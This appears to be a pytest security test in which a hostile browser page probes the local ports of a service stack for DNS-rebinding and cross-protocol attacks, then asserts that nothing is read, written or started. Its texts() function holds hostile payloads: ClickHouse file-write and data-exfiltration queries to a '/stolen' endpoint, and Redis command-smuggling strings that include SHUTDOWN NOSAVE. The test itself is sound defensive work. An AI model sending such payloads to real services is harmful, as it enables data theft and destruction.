"""A web page of a stranger, in a browser on this machine, against every port of `soltape up`.

Chromium takes the names of the stranger for addresses of this machine, as a page does that points
its name at 127.0.0.1 (DNS rebinding); one more stranger is on this machine, at another port.
"""

from __future__ import annotations

import os
from collections.abc import Iterator
from contextlib import suppress
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread

import psutil
import pytest
import redis
from playwright.sync_api import Browser, StorageState
from playwright.sync_api import Error as PlaywrightError

from infra.clickhouse.client import connect as connect_clickhouse
from infra.settings import Settings
from tests.support.dashboard import STRANGER, Up

pytestmark = [pytest.mark.slow, pytest.mark.browser, pytest.mark.timeout(900)]

SCRIPT = Path(__file__).parent / "hostile" / "page.js"
MARK = "by_a_stranger"


class Stranger:
    """A server of pages, which notes what it is asked for."""

    def __init__(self) -> None:
        asked = self.asked = []

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                asked.append(self.path)
                body = b"<!doctype html><title>nice</title><body>"
                self.send_response(200)
                self.send_header("content-type", "text/html")
                self.send_header("content-length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *_: object) -> None:
                pass

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port: int = self._server.server_address[1]
        Thread(target=self._server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()


@pytest.fixture
def stranger() -> Iterator[Stranger]:
    server = Stranger()
    yield server
    server.close()


def family(up: Up) -> list[psutil.Process]:
    first = psutil.Process(up.pid)
    return [first, *first.children(recursive=True)]


def ports(up: Up) -> list[int]:
    """Return every port that anything of `soltape up` listens on; all are on loopback."""
    listening = [
        found.laddr
        for process in family(up)
        for found in process.net_connections(kind="tcp")
        if found.status == psutil.CONN_LISTEN
    ]
    assert {address.ip for address in listening} <= {"127.0.0.1", "::1", "::ffff:127.0.0.1"}
    return sorted({address.port for address in listening})


def texts(folder: Path, port: int) -> list[str]:
    """Return what systems would do something at, if they took it from a page."""
    away = f"http://127.0.0.1:{port}/stolen"
    return [
        f"INSERT INTO FUNCTION file('{folder}/{MARK}.csv', 'CSV', 'a String') VALUES ('x')",
        f"SELECT 1 INTO OUTFILE '{folder}/{MARK}.out'",
        f"CREATE TABLE soltape.{MARK} (a UInt8) ENGINE = Memory",
        f"SELECT * FROM url('{away}?' || (SELECT toString(count()) FROM soltape.swaps), 'CSV')",
        f"\r\nSET {MARK} 1\r\nCONFIG SET dir {folder}\r\nSHUTDOWN NOSAVE\r\n",
        f"*3\r\n$3\r\nSET\r\n${len(MARK)}\r\n{MARK}\r\n$1\r\n1\r\n",
    ]


@pytest.mark.parametrize("at", [STRANGER, "127.0.0.1"], ids=["another site", "this machine"])
def test_nothing_is_read_written_or_started(
    browser: Browser, up: Up, session: StorageState, stranger: Stranger, at: str
) -> None:
    before = sorted(process.pid for process in family(up))
    listening = ports(up)
    known = {int(port) for name, port in up.addresses.items() if name.endswith("_PORT")}
    assert known <= set(listening)
    assert len(listening) >= 9, listening
    visitor = browser.new_context(storage_state=session)  # who has opened the link before
    page = visitor.new_page()
    page.goto(f"http://{at}:{stranger.port}/")
    page.add_script_tag(content=SCRIPT.read_text())
    read = []
    for port in listening:
        for host in ("127.0.0.1", STRANGER):
            outcomes = page.evaluate(
                "([host, port, texts]) => attack(host, port, texts)",
                [host, port, texts(up.folder, stranger.port)],
            )
            assert len(outcomes) > 30
            read += [
                (host, port, what, outcome)
                for what, outcome in outcomes
                if outcome.startswith("read") or outcome == "loaded"
            ]
    assert read == []
    # A page whose own name leads here: of one origin with the port, were it answered.
    for port in listening:
        answer = None
        with suppress(PlaywrightError):  # the port speaks no HTTP
            answer = page.goto(f"http://{STRANGER}:{port}/", timeout=10_000)
        assert answer is None or answer.status >= 400, (port, answer.status)
    visitor.close()
    assert sorted(process.pid for process in family(up)) == before
    assert not [path for path in stranger.asked if "stolen" in path]
    nothing_is_written(up)


def nothing_is_written(up: Up) -> None:
    files = [name for _, _, names in os.walk(up.folder) for name in names]
    assert files
    assert not [name for name in files if MARK in name]
    names = {name.lower(): value for name, value in up.addresses.items()}
    settings = Settings(_env_file=None, soltape_data=up.folder, **names)
    clickhouse = connect_clickhouse(settings)
    tables = clickhouse.query("SELECT name FROM system.tables").result_rows
    clickhouse.close()
    assert tables
    assert not [name for (name,) in tables if MARK in name]
    with redis.Redis.from_url(settings.redis_url) as store:
        assert store.dbsize()
        assert not store.exists(MARK)
    with redis.Redis.from_url(settings.access_redis_url or settings.redis_url) as store:
        assert not store.keys("access:ticket:*")  # for none was asked with a cookie that counts
